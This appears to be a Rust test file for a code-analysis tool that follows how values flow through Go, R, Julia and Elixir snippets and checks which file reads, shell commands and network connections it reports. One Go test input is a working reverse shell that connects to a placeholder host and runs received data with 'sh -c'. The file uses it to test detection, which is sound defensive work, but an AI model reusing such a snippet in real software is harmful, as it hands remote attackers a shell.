//! Values that pass through functions, threads, listings and reflection.

use super::check;
use aegish_profiles::Lang;

#[test]
fn a_change_of_directory_is_followed() {
    check(
        Lang::Go,
        &[("os.Chdir(\"/srv\"); os.Open(\"data\")", &["chdir /srv", "read /srv/data"])],
    );
    check(Lang::R, &[("setwd('/srv'); readLines('data')", &["chdir /srv", "read /srv/data"])]);
}

#[test]
fn functions_are_followed_to_their_calls() {
    check(
        Lang::Julia,
        &[(
            "function f(x)\n for i in 1:3\n  run(`echo $x`)\n end\nend\nf(\"hi\")\nrun(`who`)",
            &["argv echo|hi", "argv who"],
        )],
    );
    check(
        Lang::Elixir,
        &[(
            "defmodule A do\n def f(x) do\n  System.shell(x)\n end\nend\nA.f(\"id\")",
            &["shell id"],
        )],
    );
    check(
        Lang::Go,
        &[(
            "package main\nimport (\"os/exec\";\"net\")\nfunc main(){c,_:=net.Dial(\"tcp\",\"h.example:99\");for{b:=make([]byte,9);n,_:=c.Read(b);exec.Command(\"sh\",\"-c\",string(b[:n])).Run()}}",
            &["connect h.example 99", "received", "argv sh|-c|‹computed›"],
        )],
    );
}
